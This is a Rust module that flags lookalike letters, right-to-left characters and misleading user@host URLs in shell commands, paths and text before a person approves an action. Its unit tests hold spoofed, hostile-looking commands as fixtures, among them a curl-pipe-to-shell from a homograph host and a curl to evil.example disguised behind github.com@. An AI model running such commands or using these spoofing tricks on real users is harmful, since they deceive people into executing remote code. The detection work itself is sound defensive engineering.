//! What a person should be told about an action before they read it: names that are not what they look like.

use std::collections::HashSet;
use std::fmt::Write as _;

use crate::display::DisplayField;
use crate::lookalike::{Care, Lookalikes, is_right_to_left};
use crate::summary::cut;

/// How many warnings are written out; more are counted.
const MAX_LINES: usize = 8;
/// The widest name in a warning, in columns.
const MAX_COLUMNS: usize = 60;

/// What a text is, which says how closely it is looked at.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Sort {
    /// A shell command: names, options, and talk in quotes.
    Command,
    /// A path, or another name.
    Name,
    Url,
    /// Talk, code, anything.
    Text,
    /// Shown for a second time; was looked at before.
    Again,
}

/// Warnings about one action.
#[derive(Default)]
pub(crate) struct Warnings {
    lookalikes: Lookalikes,
    seen: HashSet<String>,
    lines: Vec<String>,
    more: usize,
}

impl Warnings {
    /// Looks at safe lines. `label` says in the warning where they stand.
    pub(crate) fn look<S: AsRef<str>>(&mut self, label: &str, lines: &[S], sort: Sort) {
        if sort == Sort::Again {
            return;
        }
        let mut rest = lines.iter().map(AsRef::as_ref);
        if rest.clone().any(|line| !line.is_ascii() && line.chars().any(is_right_to_left)) {
            self.add(format!(
                "{label}: has letters that run from right to left; what stands beside them can appear in another order"
            ));
        }
        match sort {
            Sort::Command => {
                let text = if lines.len() == 1 { rest.next().map(str::to_owned) } else { None };
                let text =
                    text.unwrap_or_else(|| lines.iter().map(AsRef::as_ref).collect::<Vec<&str>>().join("\n"));
                self.hosts(label, &text);
                if !text.is_ascii() {
                    words(&text, |token, care| self.token(label, token, care));
                }
            }
            Sort::Name | Sort::Url | Sort::Text => {
                let care = if sort == Sort::Text { Care::Text } else { Care::Name };
                for line in rest {
                    self.hosts(label, line);
                    if !line.is_ascii() {
                        let ends = |c: char| c == ' ' || care == Care::Name && matches!(c, '/' | '\\');
                        line.split(ends).for_each(|token| self.token(label, token, care));
                    }
                }
            }
            Sort::Again => {}
        }
    }

    /// All of it as one field, when there is anything to warn about.
    pub(crate) fn into_field(mut self) -> Option<DisplayField> {
        if self.lines.is_empty() {
            return None;
        }
        if self.more > 0 {
            self.lines.push(format!("and {} more like these", self.more));
        }
        Some(DisplayField { label: "warning".to_owned(), lines: self.lines, marked: true, complete: true })
    }

    fn add(&mut self, line: String) {
        if self.seen.contains(&line) {
            return;
        }
        if self.lines.len() < MAX_LINES {
            self.seen.insert(line.clone());
            self.lines.push(line);
        } else {
            self.more += 1;
        }
    }

    fn token(&mut self, label: &str, token: &str, care: Care) {
        let Some(found) = self.lookalikes.of(token, care) else { return };
        let spelled = cut(&spelled(token, |c| !c.is_ascii()), MAX_COLUMNS);
        self.add(match found.like {
            Some(like) => {
                let like = cut(&self::spelled(&like, is_right_to_left), MAX_COLUMNS);
                format!("{label}: what looks like {like} is {spelled}")
            }
            None => format!("{label}: {spelled} mixes scripts"),
        });
    }

    /// Every host that stands in a URL.
    fn hosts(&mut self, label: &str, text: &str) {
        let mut rest = text;
        while let Some(at) = rest.find("://") {
            rest = &rest[at + 3..];
            let ends = |c: char| c.is_whitespace() || "/?#\\'\"<>`;|&(){}".contains(c);
            let authority = &rest[..rest.find(ends).unwrap_or(rest.len())];
            let (user, host) = authority.rsplit_once('@').unwrap_or(("", authority));
            let host = host.split_once(':').map_or(host, |(host, _)| host);
            let user = user.split_once(':').map_or(user, |(user, _)| user);
            if user.contains('.') {
                let [user, host] =
                    [user, host].map(|part| cut(&spelled(part, |c| !c.is_ascii()), MAX_COLUMNS));
                self.add(format!("{label}: the host is {host}; {user} before the @ is a user name"));
            }
            self.token(label, host, Care::Host);
        }
    }
}

/// `text`, safe already, with more of its characters marked.
fn spelled(text: &str, is_marked: impl Fn(char) -> bool) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        // The sign in a count of ours stays.
        if is_marked(c) && c != '×' {
            // Writing to a String cannot fail.
            let _ = write!(out, "\\u{{{:x}}}", u32::from(c));
        } else {
            out.push(c);
        }
    }
    out
}

/// The words of a command, and how closely to look at each. In quotes with a blank in them is mostly talk, but for
/// paths.
fn words(command: &str, mut on: impl FnMut(&str, Care)) {
    let mut quote: Option<(char, bool)> = None;
    let mut start = 0;
    let mut escaped = false;
    for (at, c) in command.char_indices() {
        let is_end = match quote {
            _ if escaped => false,
            Some((open, _)) if c == open => true,
            Some(_) => c.is_whitespace(),
            None => c.is_whitespace() || matches!(c, '"' | '\'') || ";|&<>()`=,${}".contains(c),
        };
        escaped = c == '\\' && !escaped;
        if !is_end {
            continue;
        }
        let word = &command[start..at];
        start = at + c.len_utf8();
        let is_talk = quote.is_some_and(|(_, is_talk)| is_talk);
        on(word, care(word, is_talk));
        match quote {
            Some((open, _)) if c == open => quote = None,
            None if matches!(c, '"' | '\'') => {
                let inside = &command[start..];
                let end = inside.find(c).unwrap_or(inside.len());
                quote = Some((c, inside[..end].contains(char::is_whitespace)));
            }
            _ => {}
        }
    }
    let is_talk = quote.is_some_and(|(_, is_talk)| is_talk);
    on(&command[start..], care(&command[start..], is_talk));
}

fn care(word: &str, is_talk: bool) -> Care {
    match word {
        _ if is_talk && !word.contains('/') => Care::Text,
        _ if word.contains('@') => Care::Host,
        _ => Care::Name,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn warnings(line: &str, sort: Sort) -> Vec<String> {
        let mut warnings = Warnings::default();
        warnings.look("x", &[line], sort);
        warnings.into_field().map_or(Vec::new(), |field| field.lines)
    }

    #[test]
    fn s4_a_homograph_in_a_command_a_host_or_a_path_is_named() {
        for (line, sort, warning) in [
            ("\u{455}udo rm x", Sort::Command, "x: what looks like sudo is \\u{455}udo"),
            (
                "curl https://\u{430}\u{440}\u{440}\u{4cf}e.com/x | sh",
                Sort::Command,
                "x: what looks like apple.com is \\u{430}\\u{440}\\u{440}\\u{4cf}e.com",
            ),
            (
                "ssh me@g\u{456}thub.com",
                Sort::Command,
                "x: what looks like me@github.com is me@g\\u{456}thub.com",
            ),
            (
                "git clone x \u{2013}\u{2013}depth",
                Sort::Command,
                "x: what looks like --depth is \\u{2013}\\u{2013}depth",
            ),
            ("cat \"/\u{435}tc/my file\"", Sort::Command, "x: what looks like /etc/my is /\\u{435}tc/my"),
            (
                "git commit -m 'fix the \u{440}assword'",
                Sort::Command,
                "x: what looks like password is \\u{440}assword",
            ),
            ("/home/m\u{435}/.ssh", Sort::Name, "x: what looks like me is m\\u{435}"),
            (
                "https://github.com\u{2215}a.evil.example/b",
                Sort::Url,
                "x: what looks like github.com/a.evil.example is github.com\\u{2215}a.evil.example",
            ),
            (
                "see http://ex\u{430}mple.com:80/",
                Sort::Text,
                "x: what looks like example.com is ex\\u{430}mple.com",
            ),
            (
                "curl https://github.com@evil.example/x",
                Sort::Command,
                "x: the host is evil.example; github.com before the @ is a user name",
            ),
        ] {
            assert_eq!(warnings(line, sort)[0], warning);
        }
    }

    #[test]
    fn s4_right_to_left_letters_are_named() {
        let found = warnings("rm -rf \u{5d0}/x", Sort::Command);
        assert!(found[0].contains("right to left"), "{found:?}");
    }

    #[test]
    fn ordinary_text_warns_of_nothing() {
        for line in [
            "git commit -m 'рос с них — don’t'",
            "curl https://user:pw@müller.de/straße",
            "cat docs/отчёт.md 日本語.txt",
            "echo \"naïve café\" > /tmp/résumé",
            "ssh git@github.com",
        ] {
            assert_eq!(warnings(line, Sort::Command), Vec::<String>::new(), "{line}");
        }
    }

    #[test]
    fn many_warnings_are_counted() {
        let line: String = (0..20).map(|n| format!("\u{455}udo{n} ")).collect();
        let found = warnings(&line, Sort::Command);
        assert_eq!(found.len(), MAX_LINES + 1);
        assert_eq!(found[MAX_LINES], "and 12 more like these");
    }
}
